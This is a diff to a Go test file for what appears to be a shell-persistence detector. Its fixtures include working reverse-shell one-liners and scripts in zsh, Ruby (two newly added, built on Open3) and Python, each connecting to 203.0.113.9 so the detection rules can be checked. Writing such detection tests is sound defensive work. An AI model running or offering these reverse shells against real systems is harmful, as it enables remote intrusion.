@@ -127,6 +127,8 @@ func TestShellBehaviour(t *testing.T) {
 		{name: "zsh ztcp -d", path: "/root/.zshrc", text: "zmodload zsh/net/tcp && ztcp -d 7 203.0.113.9 4444 && zsh 1>&7 2>&7 0>&7\n", want: []string{RuleDevTCP}, label: audit.CategoryPersistence},
 		// Interpreters given code with the option glued to the quote.
 		{name: "ruby glued -e", path: "/usr/local/bin/r", text: "#!/bin/sh\nruby -rsocket -e'c=TCPSocket.new(\"203.0.113.9\",4444);while(l=c.gets);IO.popen(l,\"r\"){|io|c.print io.read};end'\n", want: []string{RuleRuby}},
+		{name: "ruby Open3.popen2e loop", path: "/opt/r.rb", text: "require 'socket'\nrequire 'open3'\ns = TCPSocket.new('203.0.113.9', 4444)\nwhile (line = s.gets)\n  Open3.popen2e(line.chomp) do |i, o, t|\n    s.print o.read\n  end\nend\n", want: []string{RuleRuby}},
+		{name: "ruby capture2e, a line read without brackets", path: "/opt/r2.rb", text: "require 'socket'\nrequire 'open3'\nc = TCPSocket.open('203.0.113.9', 8443)\nloop do\n  cmd = c.gets\n  break if cmd.nil?\n  o, st = Open3.capture2e(cmd)\n  c.write(o)\nend\n", want: []string{RuleRuby}},
 		{name: "ruby inline socket", path: "/usr/local/bin/r2", text: "#!/bin/sh\nruby -rsocket -e'spawn(\"sh\",[:in,:out,:err]=>TCPSocket.new(\"203.0.113.9\",4444))'\n", want: []string{RuleRuby}},
 		// Names bound at run time.
 		{name: "python aliases", path: "/opt/a.sh", text: "#!/bin/sh\npython3 -c 'i=__import__;n=i(\"socket\").socket;d=i(\"os\").dup2;k=n();k.connect((\"203.0.113.9\",4444));g=k.fileno;d(g(),0);d(g(),1);i(\"pty\").spawn(\"/bin/sh\")'\n", want: []string{RulePython}},
